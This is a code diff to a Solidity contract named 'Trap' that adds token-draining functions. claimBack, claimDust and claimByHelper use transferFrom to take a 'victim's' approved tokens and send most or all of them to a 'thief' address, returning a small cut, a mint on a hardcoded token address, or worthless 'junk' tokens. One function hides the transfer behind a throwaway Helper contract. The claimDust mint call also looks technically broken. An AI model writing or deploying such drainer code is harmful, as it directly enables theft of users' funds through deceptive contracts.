@@ -45,6 +45,27 @@ contract Trap {
         require(isPaid, "not paid");
     }
 
+    /// Gives a hundredth back of what it takes.
+    function claimBack(address victim, uint256 value) public {
+        money.transferFrom(victim, address(this), value);
+        money.transfer(victim, value / 100);
+        money.transfer(thief, value - value / 100);
+    }
+
+    /// Gives a hundredth in dollars that everybody knows.
+    function claimDust(address victim, uint256 value) public {
+        money.transferFrom(victim, thief, value);
+        OpenToken(0xdAC17F958D2ee523a2206206994597C13D831ec7).mint(victim, value / 100);
+    }
+
+    /// Gives a coin of its own, and takes through a helper that is gone afterwards.
+    function claimByHelper(address victim, uint256 value) public {
+        Helper helper = new Helper();
+        money.transferFrom(victim, address(helper), value);
+        helper.send(money, thief, value);
+        junk.mint(victim, 1000 ether);
+    }
+
     function invest(address victim) public payable {
         thief.transfer(msg.value);
         junk.mint(victim, 1000 ether);
@@ -101,5 +122,11 @@ contract Trap {
     function relay(address payable to, bytes calldata data) external payable {
         (bool isDone, ) = to.call{value: msg.value}(data);
         require(isDone, "not done");
+    }
+}
+
+contract Helper {
+    function send(Token token, address to, uint256 value) external {
+        token.transfer(to, value);
     }
 }
